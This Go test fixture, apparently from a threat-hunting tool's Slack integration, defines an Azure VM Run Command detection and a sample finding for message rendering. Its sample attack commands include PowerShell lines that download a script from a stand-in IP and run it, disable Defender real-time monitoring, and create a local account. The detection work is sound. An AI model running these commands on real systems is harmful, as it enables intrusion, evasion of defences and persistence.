@@ -1,0 +1,73 @@
+package slack
+
+import (
+	"fmt"
+	"time"
+
+	"github.com/huntwatch/huntwatch/handler/hunt"
+)
+
+// runCommandHunt is the bundled Run Command hunt, as far as messages are concerned.
+func runCommandHunt() *hunt.Hunt {
+	return &hunt.Hunt{
+		ID:         "55fbc363-6cc9-4201-bd68-d980b612082b",
+		Name:       "Azure VM Run Command linked with MDE",
+		Severity:   "Medium",
+		Tactics:    []string{"LateralMovement", "CredentialAccess"},
+		Techniques: []string{"T1570", "T1078.004"},
+		Entities: []hunt.EntityMapping{
+			{EntityType: "Account", FieldMappings: []hunt.FieldMapping{{Identifier: "FullName", ColumnName: "Caller"}}},
+			{EntityType: "IP", FieldMappings: []hunt.FieldMapping{{Identifier: "Address", ColumnName: "CallerIpAddress"}}},
+			{EntityType: "Host", FieldMappings: []hunt.FieldMapping{{Identifier: "HostName", ColumnName: "VirtualMachineName"}}},
+		},
+	}
+}
+
+const (
+	testSub = "6f3c2f0e-1a2b-4c5d-9e8f-0a1b2c3d4e5f"
+	testVM  = "/subscriptions/" + testSub + "/resourceGroups/rg-prod-web/providers/Microsoft.Compute/virtualMachines/vm-web-01"
+)
+
+var testTime = time.Date(2025, 3, 14, 9, 26, 53, 0, time.UTC)
+
+// runCommandFinding is one row of the bundled hunt with the given PowerShell commands.
+func runCommandFinding(commands []string) *hunt.Finding {
+	ts := func(d time.Duration) string { return testTime.Add(d).Format(time.RFC3339Nano) }
+	return &hunt.Finding{
+		Fingerprint: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+		Occurrence:  "c1f0a6de-7b1c-4e4f-9a55-2d0c8e7b1a33",
+		Time:        testTime,
+		Fields: []hunt.Field{
+			{Name: "TimeGenerated", Type: "datetime", Text: ts(0)},
+			{Name: "StartTime", Type: "datetime", Text: ts(0)},
+			{Name: "EndTime", Type: "datetime", Text: ts(41 * time.Second)},
+			{Name: "CorrelationId", Type: "string", Text: "c1f0a6de-7b1c-4e4f-9a55-2d0c8e7b1a33"},
+			{Name: "Caller", Type: "string", Text: "alice.admin@contoso.com"},
+			{Name: "CallerIpAddress", Type: "string", Text: "203.0.113.47"},
+			{Name: "SubscriptionId", Type: "string", Text: testSub},
+			{Name: "ResourceGroup", Type: "string", Text: "rg-prod-web"},
+			{Name: "VirtualMachineName", Type: "string", Text: "vm-web-01"},
+			{Name: "ResourceId", Type: "string", Text: testVM},
+			{Name: "OperationNameValue", Type: "string", Text: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"},
+			{Name: "ActivityStatus", Type: "string", Text: "Success"},
+			{Name: "DeviceName", Type: "string", Text: "vm-web-01.contoso.internal"},
+			{Name: "DeviceId", Type: "string", Text: "4b1c9e0f2a7d4c3b8e6f1a2b3c4d5e6f7a8b9c0d"},
+			{Name: "PowershellFileName", Type: "string", Text: "script3.ps1"},
+			{Name: "PowershellFileSize", Type: "long", Text: "1284"},
+			{Name: "PowershellExecStart", Type: "datetime", Text: ts(12 * time.Second)},
+			{Name: "PowershellExecEnd", Type: "datetime", Text: ts(38 * time.Second)},
+			{Name: "PowershellScriptCommands", Type: "dynamic", List: commands},
+			{Name: "CommandCount", Type: "long", Text: fmt.Sprint(len(commands))},
+			{Name: "ScriptFingerprintHash", Type: "string", Text: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
+		},
+	}
+}
+
+var typicalCommands = []string{
+	"Get-LocalUser",
+	"Get-LocalGroupMember -Group Administrators",
+	"Invoke-WebRequest -Uri http://198.51.100.23/a.ps1 -OutFile $env:TEMP\\a.ps1",
+	"Set-MpPreference -DisableRealtimeMonitoring $true",
+	"& $env:TEMP\\a.ps1 -Target 'dc01' > $null",
+	"New-LocalUser -Name 'svc_backup' -Password (ConvertTo-SecureString 'P@ss`w0rd' -AsPlainText -Force)",
+}
